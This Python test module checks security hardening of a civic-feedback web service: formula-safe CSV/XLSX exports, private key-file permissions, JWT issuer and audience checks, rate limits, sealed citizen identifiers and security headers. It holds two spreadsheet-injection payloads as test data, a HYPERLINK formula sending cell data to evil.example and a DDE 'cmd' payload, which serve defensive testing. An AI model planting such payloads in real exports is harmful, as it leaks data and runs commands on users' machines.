"""Hardening, through the public HTTP API: exports that never run a formula, rate limits by
principal, the dashboard's server-side session, JWT issuer and audience, private key files,
citizens' actors sealed, Idempotency-Keys digested, security headers on every HTML answer."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import jwt
import pytest
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell, MergedCell
from pydantic import ValidationError

from services.cli import main as cli
from services.dialogue.main import create_app as create_dialogue
from services.registry.main import create_app as create_registry
from shared.auth import TokenStore
from shared.commands import IdempotentRequest
from shared.principal import Role
from shared.settings import Settings
from testkit.records import model_body
from tests.citizens.test_app_journey import BA_DINH, PNG, submit
from tests.conftest import bearer
from tests.dialogue.helpers import created, kien_nghi_body, ok
from tests.helpers import app_of, catch_up
from tests.open311.helpers import PERSONAL as OPEN311_PERSONAL
from tests.open311.helpers import post as post_open311
from tests.open311.helpers import spec_form
from tests.security.test_jwt import key_pair, token

EVIL_AGENCY = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def overdue_with_agency(dialogue: TestClient, agency: str) -> str:
    kien_nghi = created(dialogue, "/kien-nghi", kien_nghi_body(received_on="2024-05-02"))
    ok(
        dialogue,
        f"/kien-nghi/{kien_nghi}/assignment",
        {"agency": agency, "due_on": "2024-05-29", "assigned_on": "2024-05-03"},
    )
    return kien_nghi


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[Cell | MergedCell]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


EXPORTS = [
    ("/reports/kien-nghi", {"group_by": "agency", "period": "2024"}),
    ("/dashboard/kien-nghi/overdue", {"province": "01", "period": "2024"}),
]


@pytest.mark.parametrize(("path", "params"), EXPORTS)
def test_exports_never_start_a_formula(
    dialogue: TestClient, aggregator: TestClient, path: str, params: dict[str, str]
) -> None:
    overdue_with_agency(dialogue, EVIL_AGENCY)
    overdue_with_agency(dialogue, "@SUM(1+1)*cmd|' /C calc'!A0")
    overdue_with_agency(dialogue, "UBND phường Trúc Bạch")
    catch_up(aggregator)

    answer = aggregator.get(path, params={**params, "format": "csv"})
    assert answer.status_code == 200, answer.text
    cells = [c for row in csv_cells(answer.content) for c in row]
    assert "'" + EVIL_AGENCY in cells and "UBND phường Trúc Bạch" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]

    answer = aggregator.get(path, params={**params, "format": "xlsx"})
    assert answer.status_code == 200, answer.text
    sheet_cells = xlsx_cells(answer.content)
    assert not [c for c in sheet_cells if c.data_type == "f"]
    texts = {c.value: c.data_type for c in sheet_cells}
    assert texts[EVIL_AGENCY] == "s"  # the text as it was, a string cell
    figures = [c for c in sheet_cells if isinstance(c.value, int)]
    assert figures and all(c.data_type == "n" for c in figures)


# ---- key, token and signing files: the service user's alone ----

SECRET_FILES = ("tokens.json", "signing-key.pem", "personal-data-keys.db", "security.db")


def test_key_token_and_signing_files_are_0600_in_a_0700_folder(
    settings: Settings, registry: TestClient, dialogue: TestClient
) -> None:
    submit(dialogue)  # seals personal data: the subject's key is written
    assert registry.get("/security/denials", headers=bearer("citizen")).status_code == 403
    data = settings.data_dir
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    present = {p.name: stat.S_IMODE(p.stat().st_mode) for p in data.iterdir() if p.is_file()}
    files = SECRET_FILES[:2] if settings.uses_postgres else SECRET_FILES  # the rest: schemas
    for name in files:
        assert present.get(name) == 0o600, (name, oct(present.get(name, 0)))
    if settings.uses_postgres:
        return
    # every SQLite file we or a library made (the stores, their -wal and -shm): 0600 too
    stores = {n: m for n, m in present.items() if ".db" in n}
    assert any(n.endswith(("-wal", "-shm")) for n in stores), stores
    assert all(mode == 0o600 for mode in stores.values()), {n: oct(m) for n, m in stores.items()}


def test_a_backup_is_as_private_as_the_data_folder(
    settings: Settings, dialogue: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if settings.uses_postgres:
        pytest.skip("the stores are in PostgreSQL: pg_dump's file is the operator's")
    submit(dialogue)
    monkeypatch.setenv("DANVAN_DATA_DIR", str(settings.data_dir))
    monkeypatch.delenv("DANVAN_DATABASE_URL", raising=False)
    target = tmp_path / "backup"
    assert cli(["backup", str(target)]) == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o700
    copied = {p.name: stat.S_IMODE(p.stat().st_mode) for p in target.iterdir() if p.is_file()}
    for name in SECRET_FILES:
        assert copied.get(name) == 0o600, (name, oct(copied.get(name, 0)))


# ---- JWT: issuer and audience are required, and always checked ----


@pytest.mark.parametrize("missing", ["DANVAN_JWT_ISSUER", "DANVAN_JWT_AUDIENCE"])
def test_jwt_without_issuer_or_audience_does_not_start(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, missing: str
) -> None:
    _, public = key_pair()
    jwks = tmp_path / "jwks.json"
    jwks.write_text(json.dumps({"keys": [public]}))
    monkeypatch.setenv("DANVAN_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("DANVAN_JWT_JWKS", str(jwks))
    monkeypatch.setenv("DANVAN_JWT_ISSUER", "https://idp.gov.vn")
    monkeypatch.setenv("DANVAN_JWT_AUDIENCE", "danvan")
    monkeypatch.delenv(missing)
    with pytest.raises(ValidationError, match="DANVAN_JWT_ISSUER and DANVAN_JWT_AUDIENCE"):
        create_registry()  # its settings from the environment, as uvicorn starts it
    # nor settings made in code that skip the check
    unchecked = settings.model_copy(update={"jwt_jwks": str(jwks), "jwt_issuer": None})
    with pytest.raises(ValueError, match="DANVAN_JWT_ISSUER and DANVAN_JWT_AUDIENCE"):
        create_registry(unchecked)


def test_a_jwt_without_issuer_or_audience_is_refused(settings: Settings, tmp_path: Path) -> None:
    private, public = key_pair()
    jwks = tmp_path / "jwks.json"
    jwks.write_text(json.dumps({"keys": [public]}))
    configured = settings.model_copy(
        update={"jwt_jwks": str(jwks), "jwt_issuer": "https://idp.gov.vn", "jwt_audience": "danvan"}
    )
    with TestClient(create_registry(configured)) as registry:

        def head(credential: str) -> int:
            answer = registry.get("/events/head", headers={"Authorization": f"Bearer {credential}"})
            return answer.status_code

        auditor = {"role": "auditor", "units": []}
        assert head(token(private, **auditor)) == 200
        for claim in ("iss", "aud"):
            claims = jwt.decode(token(private, **auditor), options={"verify_signature": False})
            del claims[claim]
            stripped = jwt.encode(claims, private, algorithm="RS256", headers={"kid": "ministry-1"})
            assert head(stripped) == 401, claim
        assert head(token(private, iss="https://other-idp.example", **auditor)) == 401
        assert head(token(private, aud=["another-system"], **auditor)) == 401


def citizen_app_body() -> dict[str, Any]:
    return {"category": "urban_order", "content": "Vỉa hè bị lấn chiếm", **BA_DINH}


# ---- the write rate limit: by principal, however its credential is spelt ----


def limited(settings: Settings, create: Any, per_minute: int = 3) -> TestClient:
    """A service whose writes are limited to a few a minute (its own window, in memory)."""
    return TestClient(
        create(settings.model_copy(update={"write_rate_limit": f"{per_minute}/minute"}))
    )


def test_the_rate_limit_counts_a_principal_however_its_credential_is_spelt(
    settings: Settings,
) -> None:
    second = TokenStore(settings.token_path).issue("officer-hanoi", Role.OFFICER, ["01"])
    with limited(settings, create_registry) as registry:

        def write(authorization: str) -> int:
            answer = registry.post(
                "/models", json=model_body(), headers={"Authorization": authorization}
            )
            return answer.status_code

        assert [write("Bearer token-officer") for _ in range(3)] == [201, 201, 201]
        assert write("Bearer token-officer") == 429
        for spelling in ("bearer token-officer", "Bearer  token-officer ", "BEARER\ttoken-officer"):
            assert write(spelling) == 429, spelling
        assert write(f"Bearer {second}") == 429  # another token of the same principal
        assert write("Bearer token-officer_badinh") == 201  # another principal: its own count


def test_an_open311_api_key_counts_as_its_principal(settings: Settings) -> None:
    with limited(settings, create_dialogue) as dialogue:
        citizen = {"Authorization": "Bearer token-citizen"}
        for _ in range(3):
            assert (
                dialogue.post(
                    "/app/kien-nghi", json=citizen_app_body(), headers=citizen
                ).status_code
                == 201
            )
        assert post_open311(dialogue).status_code == 429  # api_key in the form
        in_query = dialogue.post(
            "/open311/v2/requests.json?api_key=token-citizen", data=spec_form(api_key=None)
        )
        assert in_query.status_code == 429
        assert post_open311(dialogue, api_key="token-officer").status_code == 200


def test_callers_without_a_valid_credential_count_by_their_address(settings: Settings) -> None:
    with limited(settings, create_registry) as registry:
        answers = [
            registry.post("/models", json=model_body(), headers={"Authorization": f"Bearer x{n}"})
            for n in range(3)
        ]
        assert [a.status_code for a in answers] == [401, 401, 401]
        assert registry.post("/models", json=model_body()).status_code == 429  # no credential
        fresh = registry.post("/models", json=model_body(), headers={"Authorization": "Bearer y"})
        assert fresh.status_code == 429  # a new made-up token is no way around it
        assert (
            registry.post("/models", json=model_body(), headers=bearer("officer")).status_code
            == 201
        )


# ---- a citizen's principal id and client: sealed, and erased with the subject ----

USER_AGENT = "DanVanApp/2.3.1 (Android 14; SM-A546E; build 7f3a9c)"


def all_json(*answers: Any) -> str:
    return " ".join(json.dumps(a.json(), ensure_ascii=False) for a in answers)


def test_a_citizens_id_and_user_agent_are_sealed_in_every_event(dialogue: TestClient) -> None:
    citizen = {**bearer("citizen"), "User-Agent": USER_AGENT}
    photo = dialogue.post(
        "/app/attachments", files={"file": ("a.png", PNG, "image/png")}, headers=citizen
    )
    assert photo.status_code == 201, photo.text
    body = {**citizen_app_body(), "attachments": [photo.json()["sha256"]], "device_id": "dev-9"}
    submitted = dialogue.post("/app/kien-nghi", json=body, headers=citizen)
    assert submitted.status_code == 201, submitted.text
    kien_nghi = submitted.json()["id"]
    ok(dialogue, f"/kien-nghi/{kien_nghi}/assignment", {"agency": "UBND"})
    ok(dialogue, f"/kien-nghi/{kien_nghi}/resolution", {"resolution": "Đã dọn vỉa hè"})
    for path, step in (("rating", {"rating": 2}), ("reopening", {"reason": "Lại lấn chiếm"})):
        answer = dialogue.post(f"/app/kien-nghi/{kien_nghi}/{path}", json=step, headers=citizen)
        assert answer.status_code == 200, answer.text
    by_open311 = post_open311(dialogue, headers={"User-Agent": USER_AGENT})  # a citizen's key
    assert by_open311.status_code == 200, by_open311.text
    other = by_open311.json()[0]["service_request_id"]

    feed = dialogue.get("/events", params={"limit": 1000}, headers=bearer("auditor"))
    histories = [
        dialogue.get(f"/kien-nghi/{k}/history", headers=bearer("auditor"))
        for k in (kien_nghi, other)
    ]
    published = all_json(feed, *histories)
    for secret in ("citizen-1", USER_AGENT, "dev-9", OPEN311_PERSONAL["device_id"]):
        assert secret not in published, secret
    citizen_events = [
        e for h in histories for e in h.json()["items"] if e["data"]["actor"]["role"] == "citizen"
    ]
    kinds = {e["type"] for e in citizen_events}
    assert {"KienNghi.Received", "KienNghi.Rated", "KienNghi.Reopened"} <= kinds, kinds
    # an official's actor stays on record in clear
    assigned = [e for e in histories[0].json()["items"] if e["type"] == "KienNghi.Assigned"]
    assert assigned[0]["data"]["actor"]["id"] == "officer-hanoi"

    vault = app_of(dialogue).state.dialogues.vault
    opened = [vault.open(e["data"]["actor"]["sealed"]) for e in citizen_events]
    assert {o["id"] for o in opened} == {"citizen-1"} and {o["client"] for o in opened} == {
        USER_AGENT
    }
    erased = dialogue.post(
        "/personal-data/erasures",
        json={"kien_nghi_id": kien_nghi, "reason": "yêu cầu của công dân"},
        headers=bearer("admin"),
    )
    assert erased.status_code == 200, erased.text
    mine = [e for e in citizen_events if e["aggregate_id"] == kien_nghi]
    assert mine and all(vault.open(e["data"]["actor"]["sealed"]) is None for e in mine)
    # the history still loads, the role still in clear
    again = dialogue.get(f"/kien-nghi/{kien_nghi}/history", headers=bearer("auditor"))
    assert again.status_code == 200
    assert {e["data"]["actor"]["role"] for e in again.json()["items"]} == {"citizen", "officer"}


# ---- Idempotency-Keys: never in the public feed in clear ----


def accepted_records(registry: TestClient) -> list[dict[str, Any]]:
    items = registry.get("/events", params={"limit": 1000}, headers=bearer("auditor")).json()
    return [e for e in items["items"] if e["type"] == "IdempotentRequest.Accepted"]


def test_idempotency_keys_and_callers_stay_out_of_the_feed(registry: TestClient) -> None:
    key = {"Idempotency-Key": "k-7c1e-secret-of-the-caller"}
    first = registry.post("/models", json=model_body(), headers=key)
    assert first.status_code == 201
    again = registry.post("/models", json=model_body(), headers=key)
    assert again.json() == first.json() and again.headers["idempotent-replayed"] == "true"
    [record] = accepted_records(registry)
    text = json.dumps(record)
    assert "k-7c1e-secret-of-the-caller" not in text and "officer-hanoi" not in text
    assert set(record["data"]) >= {"request_hash", "status", "response"}
    assert not {"scope", "key"} & set(record["data"])


def test_a_record_accepted_before_still_loads_and_replays(registry: TestClient) -> None:
    """A record as stored before keys left the feed (scope and key in clear) answers its key."""
    key = {"Idempotency-Key": "k-new"}
    first = registry.post("/models", json=model_body(), headers=key)
    assert first.status_code == 201
    application = app_of(registry).state.registry
    [stored] = application.recorder.select_events(
        IdempotentRequest.create_id("officer-hanoi", "k-new")
    )
    state = application.mapper.transcoder.decode(stored.state)
    legacy_id = IdempotentRequest.create_id("officer-hanoi", "k-old")
    state.update(scope="officer-hanoi", key="k-old", originator_id=str(legacy_id))
    application.recorder.insert_events(
        [
            replace(
                stored, originator_id=legacy_id, state=application.mapper.transcoder.encode(state)
            )
        ]
    )
    legacy = [r for r in accepted_records(registry) if r["aggregate_id"] == str(legacy_id)]
    assert legacy and legacy[0]["data"]["key"] == "k-old"  # the old shape, as it was stored
    replayed = registry.post("/models", json=model_body(), headers={"Idempotency-Key": "k-old"})
    assert replayed.status_code == 201 and replayed.json() == first.json()
    assert replayed.headers["idempotent-replayed"] == "true"
    other_body = registry.post(
        "/models", json=model_body(title="Khác"), headers={"Idempotency-Key": "k-old"}
    )
    assert other_body.status_code == 409


# ---- security headers on every HTML answer ----

SECURITY_HEADERS = (
    "content-security-policy",
    "x-content-type-options",
    "x-frame-options",
    "referrer-policy",
    "permissions-policy",
)


def get_paths(app: Any) -> list[str]:
    """Every GET route of the app, read from the app itself, its parameters filled in."""
    paths = []
    for route in iter_route_contexts(app.routes):  # included routers' routes too
        if "GET" in (route.methods or ()) and route.path:
            paths.append(re.sub(r"\{[^}]+\}", "x", route.path))
    return paths


def test_every_html_answer_of_every_service_has_the_security_headers(
    registry: TestClient, dialogue: TestClient, aggregator: TestClient
) -> None:
    html: dict[str, list[str]] = {}
    for name, client in (
        ("registry", registry),
        ("dialogue", dialogue),
        ("aggregator", aggregator),
    ):
        for path in get_paths(client.app):
            for headers in (bearer("auditor"), {"Authorization": ""}):
                answer = client.get(path, headers={**headers, "Accept": "text/html"})
                if not answer.headers.get("content-type", "").startswith("text/html"):
                    continue
                html.setdefault(name, []).append(path)
                missing = [h for h in SECURITY_HEADERS if h not in answer.headers]
                assert not missing, (name, path, answer.status_code, missing)
                policy = answer.headers["content-security-policy"]
                assert "frame-ancestors 'none'" in policy and "*" not in policy, (path, policy)
                assert "'unsafe-eval'" not in policy and answer.headers["x-frame-options"] == "DENY"
                assert (
                    "script-src" not in policy
                    or "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
                )
    for name in ("registry", "dialogue", "aggregator"):
        assert {"/docs", "/redoc", "/docs/oauth2-redirect"} <= set(html[name]), html.get(name)
    assert {"/dashboard", "/dashboard/login", "/dashboard/x"} <= set(html["aggregator"])


def test_swagger_uis_policy_allows_exactly_its_files_and_inline_script(
    registry: TestClient,
) -> None:
    page = registry.get("/docs")
    policy = dict(
        part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";")
    )
    scripts = policy["script-src"].split()
    external = re.findall(r'<script src="([^"]+)"', page.text)
    inline = re.findall(r"<script>(.*?)</script>", page.text, re.S)
    digests = [
        "'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
        for s in inline
    ]
    assert external and inline and sorted(scripts) == sorted([*external, *digests])
    styles = re.findall(r'<link type="text/css" rel="stylesheet" href="([^"]+)"', page.text)
    assert policy["style-src"].split() == styles
    assert policy["default-src"] == "'none'" and policy["connect-src"] == "'self'"
    # a page whose inline script changed would not run under that policy
    redoc = registry.get("/redoc").headers["content-security-policy"]
    assert "swagger-ui" not in redoc and "'sha256-" not in redoc
